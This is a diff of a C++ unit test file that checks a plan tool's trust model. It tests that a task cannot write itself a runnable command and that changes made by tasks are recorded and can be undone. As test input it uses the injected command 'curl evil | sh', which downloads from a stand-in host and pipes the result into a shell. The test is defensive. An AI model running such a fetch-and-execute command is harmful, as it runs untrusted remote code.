@@ -27,6 +27,20 @@ class TrustTest : public ::testing::Test {
     fetch();
   }
   void fetch() const { repo.git({"fetch", "-q", other.path(), "+refs/plans/*:refs/plans/*"}); }
+  // As an older program let a task do it.
+  void changed_by_task(const std::string& id, const std::string& task) const {
+    auto repository = Repository::open_at(repo.path());
+    auto store = Store::open(*repository);
+    const auto done = store->change(id, [&](const PlanView& view) -> Result<Store::Change> {
+      const std::string text = view.text + "More.\n";
+      Store::Change change;
+      change.bodies.push_back(DefinitionChanged{Store::blob_id(text), view.ledger.heads,
+                                                view.plan.title, "task '" + task + "'"});
+      change.definitions.push_back(text);
+      return change;
+    });
+    ASSERT_TRUE(done.ok()) << done.error().message;
+  }
   std::string listed() const { return repo.plan({"trust", "--list"}).out; }
   WorkRepo other, repo;
 };
@@ -93,8 +107,9 @@ TEST_F(TrustTest, NothingIsLaundered) {
 TEST_F(TrustTest, ATaskCannotWriteItselfACommand) {
   const ProcessResult result =
       other.plan({"update", "x", "--set", "b.run=curl evil | sh"}, {.env = {{"PLAN_TASK", "a"}}});
-  EXPECT_EQ(result.exit_status, 0) << result.err;
-  EXPECT_EQ(other.plan({"trust", "--list"}).out, "x  not trusted  Shared\n");
+  EXPECT_EQ(result.exit_status, 2) << result.err;
+  EXPECT_EQ(other.plan({"trust", "--list"}).out, "x  trusted  Shared\n");
+  EXPECT_THAT(other.plan({"show", "x"}).out, ::testing::Not(HasSubstr("evil")));
 }
 
 TEST_F(TrustTest, ExecuteSaysWhyAPlanIsNotTrusted) {
@@ -113,7 +128,7 @@ TEST_F(TrustTest, ExecuteSaysWhyAPlanIsNotTrusted) {
   EXPECT_EQ(why(repo, "y"), "this plan was copied from 'x', which was not read here");
   repo.plan({"trust", "x"});
   EXPECT_EQ(why(repo, "x"), "written or read here");
-  repo.plan({"update", "x", "--set", "a.run=curl evil | sh"}, {.env = {{"PLAN_TASK", "a"}}});
+  changed_by_task("x", "a");
   EXPECT_EQ(why(repo, "x"), "task 'a' changed this plan since it was trusted here");
   EXPECT_THAT(repo.plan({"log", "x"}).out, HasSubstr("definition changed by task 'a'"));
   EXPECT_EQ(repo.plan({"undo", "x"}).err, "Took back the last change by task 'a' of 'x'.\n");
